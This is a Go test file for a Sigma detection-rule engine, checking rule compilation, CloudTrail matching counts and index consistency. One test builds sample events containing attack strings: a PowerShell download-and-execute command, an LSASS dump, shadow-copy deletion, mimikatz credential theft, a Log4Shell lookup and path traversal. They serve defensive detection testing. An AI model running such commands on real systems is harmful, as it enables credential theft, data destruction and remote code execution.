package sigma_test

import (
	"bytes"
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/stormbell/stormbell/services/sigma"
)

// corpora is the directory of public rules and events, which is no part of the
// repository: tests that need it skip without it.
func corpora(tb testing.TB, parts ...string) string {
	tb.Helper()
	shared := os.Getenv("SHARED")
	if shared == "" {
		shared = filepath.Join("..", "..", "..", "shared")
	}
	path := filepath.Join(append([]string{shared, "corpora"}, parts...)...)
	if _, err := os.Stat(path); err != nil {
		tb.Skipf("no public corpora: %v (set SHARED)", err)
	}
	return path
}

// load compiles every rule file beneath dir.
func load(tb testing.TB, dir string) (*sigma.Set, []sigma.Problem) {
	tb.Helper()
	var docs []sigma.Document
	var problems []sigma.Problem
	eachRule(tb, dir, func(name string, src []byte) {
		d, p := sigma.Parse(src, name)
		docs, problems = append(docs, d...), append(problems, p...)
	})
	set, more := sigma.Compile(docs, sigma.Options{})
	return set, append(problems, more...)
}

// eachRule reads every rule file beneath dir.
func eachRule(tb testing.TB, dir string, f func(name string, src []byte)) {
	tb.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || (filepath.Ext(path) != ".yml" && filepath.Ext(path) != ".yaml") {
			return err
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		name, err := filepath.Rel(dir, path)
		if err != nil {
			return err
		}
		f(name, src)
		return nil
	})
	require.NoError(tb, err)
}

// cloudTrail reads the records of every CloudTrail file beneath the directories,
// compacted.
func cloudTrail(tb testing.TB, dirs ...string) [][]byte {
	tb.Helper()
	var events [][]byte
	for _, dir := range dirs {
		err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || filepath.Ext(path) != ".json" {
				return err
			}
			src, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			var file struct{ Records []json.RawMessage }
			if json.Unmarshal(src, &file) != nil || file.Records == nil {
				if json.Unmarshal(src, &file.Records) != nil {
					return nil
				}
			}
			for _, r := range file.Records {
				var b bytes.Buffer
				if err := json.Compact(&b, r); err != nil {
					return err
				}
				events = append(events, b.Bytes())
			}
			return nil
		})
		require.NoError(tb, err)
	}
	return events
}

func TestPublicRulesAreAccepted(t *testing.T) {
	set, problems := load(t, corpora(t, "sigmahq", "rules"))
	warnings := 0
	for _, p := range problems {
		if p.Severity == sigma.Error {
			t.Log(p)
		} else {
			warnings++
		}
	}
	t.Logf("%d accepted, %d rejected, %d warnings", len(set.Rules()), sigma.Rejected(problems), warnings)
	require.Equal(t, 3141, len(set.Rules())) //nolint:testifylint // Len would print every rule
	require.Zero(t, sigma.Rejected(problems))
}

func TestCloudTrailMatches(t *testing.T) {
	set, problems := load(t, corpora(t, "sigmahq", "rules", "cloud", "aws"))
	require.Empty(t, problems)
	require.Equal(t, 57, len(set.Rules())) //nolint:testifylint // Len would print every rule
	events := cloudTrail(t, corpora(t, "invictus-cloudtrail"), corpora(t, "stratus"))
	m := set.Matcher()
	counts := map[string]int{}
	for _, raw := range events {
		for _, r := range m.Match(sigma.Event{Raw: raw, LogSource: sigma.LogSource{Product: "aws", Service: "cloudtrail"}, Strict: true}, nil) {
			counts[r.Title]++
		}
		require.NoError(t, m.Err())
	}
	require.Len(t, events, 3210)
	require.Equal(t, map[string]int{
		"AWS Bucket Deleted": 5, "AWS CloudTrail Important Change": 8, "AWS IAM Backdoor Users Keys": 4,
		"AWS New Lambda Layer Attached": 1, "AWS STS AssumeRole Misuse": 144, "AWS Snapshot Backup Exfiltration": 3,
		"AWS Successful Console Login Without MFA": 2, "AWS User Login Profile Was Modified": 1, "AWS VPC Flow Logs Deleted": 2,
		"Ingress/Egress Security Group Modification": 7, "New Network Route Added": 6, "Potential Bucket Enumeration on AWS": 3,
		"Potential Malicious Usage of CloudTrail System Manager": 3,
	}, counts, "the same that RSigma 0.23 finds")
}

// TestIndexAgreesOnPublicRules holds that the index decides as evaluating every
// rule does, on CloudTrail records and on events made of the rules' own values.
func TestIndexAgreesOnPublicRules(t *testing.T) {
	set, _ := load(t, corpora(t, "sigmahq", "rules"))
	events := cloudTrail(t, corpora(t, "stratus"))
	events = events[:min(len(events), 40)]
	for _, e := range []string{
		`{"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\POWERSHELL.exe","CommandLine":"powershell -nop -w hidden -EncodedCommand SQBFAFgA; IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"NT AUTHORITY\\SYSTEM","OriginalFileName":"PowerShell.EXE"}`,
		`{"Image":"\\rundll32.exe","CommandLine":"rundll32 comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full","ParentCommandLine":"","EventID":1}`,
		`{"TargetFilename":"C:\\Users\\Public\\payload.exe","Image":["C:\\Windows\\explorer.exe",{"x":"\\cmd.exe"}],"EventID":"11"}`,
		`{"message":"User noc executed: show running-config","CommandLine":{"a":"vssadmin delete shadows /all","b":["mimikatz ","SEKURLSA::logonpasswords"]},"Image":{"x":"\\vssadmin.exe"}}`,
		`{"TargetObject":"HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x","Details":"C:\\Users\\Public\\a.exe","EventType":"SetValue","EventID":4.657e3}`,
		`{"cs-uri-query":"/a?x=${jndi:ldap://x}","c-uri":"/../../etc/passwd","cs-method":"GET","sc-status":200,"exe":"/usr/bin/curl"}`, `{}`,
	} {
		events = append(events, []byte(e))
	}
	m := set.Matcher()
	matched := 0
	for _, e := range events {
		got := m.Match(sigma.Event{Raw: e}, nil)
		require.NoError(t, m.Err())
		matched += len(got)
		all := m.Directly()
		require.Equal(t, len(all), len(got), "%s", e) //nolint:testifylint // Len would print every rule
		for i := range all {
			require.Equal(t, all[i].ID, got[i].ID, "%s", e)
		}
	}
	require.Greater(t, matched, 100)
}
